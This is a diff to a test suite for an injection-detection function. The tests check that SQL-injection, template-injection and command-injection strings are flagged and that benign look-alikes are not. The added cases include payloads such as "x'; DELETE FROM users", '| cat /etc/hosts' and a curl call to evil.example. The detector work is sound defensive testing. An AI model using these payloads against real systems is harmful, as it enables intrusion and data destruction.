@@ -101,6 +101,24 @@ describe('injection probe', () => {
     '$(curl http://x)',
     '*)(uid=*))(|(uid=*',
     'x)(|(password=*)',
+    "') OR ('a'='a",
+    "1' or 'x' like 'x",
+    "' || '1'='1",
+    "' or 2>1 --",
+    "'/**/OR/**/1=1",
+    '%27+OR+%271%27=%271',
+    "' AND (SELECT COUNT(*) FROM users) > 0 --",
+    "a' AND 1=CONVERT(int,(SELECT @@version))--",
+    "1' ORDER BY 10--",
+    'extractvalue(1,concat(0x7e,version()))',
+    "x'; DELETE FROM users WHERE '1'='1",
+    "1' AND SLEEP(5)--",
+    'if(1=1,sleep(5),0)',
+    '#{7*7}',
+    '<%= 7*7 %>',
+    '; ls -la /',
+    'report.pdf|cat /etc/hosts',
+    '127.0.0.1 && curl http://evil.example',
   ])('reports %s', (value) => {
     expect(probe(value)).toEqual(['injection_probe']);
   });
@@ -135,8 +153,28 @@ describe('injection probe', () => {
     '<a href="x">on click = y</a>',
     'f(x)(y = 2) * 3',
     '(a)(b=c)',
+    "the 'basic' and premium plan (select one from the list)",
+    "'basic' and (select one from the list)",
+    "'a' or 2 > 1, she asked",
+    'sorted by "name" order by 2 columns',
+    '```js\nawait sleep(10)\n```',
+    'See [the issues](../../issues/new) and ../../CONTRIBUTING.md',
+    'Run `docker pull app && curl http://localhost:8080` and then sleep 10; rm -rf build',
+    'name;id|price',
+    'Tom & Jerry; cat food',
+    'C++ /* comment */ and more',
+    'use #{name} or <%= name %>',
   ])('leaves %s alone', (value) => {
     expect(probe(value)).toEqual([]);
+  });
+
+  it('finds a short probe among arguments too long to be read', () => {
+    const long = Array.from({ length: 500 }, (_, i) => ({ path: `ticket.part${i}`, value: "it's ".repeat(800) }));
+    const found = taught().send({
+      at: THIRD_MONDAY,
+      arguments: [...long, { path: 'ticket.title', value: "' or 1=1 --" }],
+    });
+    expect(found.map(({ reason }) => reason)).toEqual(['user 17 sent an SQL tautology in argument ticket.title']);
   });
 
   it.each([
@@ -159,17 +197,26 @@ describe('injection probe', () => {
     expect(taught().kinds({ at: THIRD_MONDAY, arguments: [{ path, value: null }] })).toEqual([]);
   });
 
-  it.each(["'", '..', '{{', ' or ', 'union select ', "' or ", '%27', '<a ', ')(a', '1 '])(
-    'takes time in proportion to a text of %j repeated',
-    (text) => {
-      const role = taught();
-      const path = 'customers.where.lastName._like';
-      expectLinear(
-        (times) => role.kinds({ at: THIRD_MONDAY, arguments: [{ path, value: text.repeat(times) }] }),
-        5_000,
-      );
-    },
-  );
+  it.each([
+    "'",
+    '..',
+    '{{',
+    ' or ',
+    'union select ',
+    "' or ",
+    "' and (",
+    '/*',
+    '../',
+    'if(1,',
+    '%27',
+    '<a ',
+    ')(a',
+    '1 ',
+  ])('takes time in proportion to a text of %j repeated', (text) => {
+    const role = taught();
+    const path = 'customers.where.lastName._like';
+    expectLinear((times) => role.kinds({ at: THIRD_MONDAY, arguments: [{ path, value: text.repeat(times) }] }), 5_000);
+  });
 });
 
 describe('alias amplification', () => {
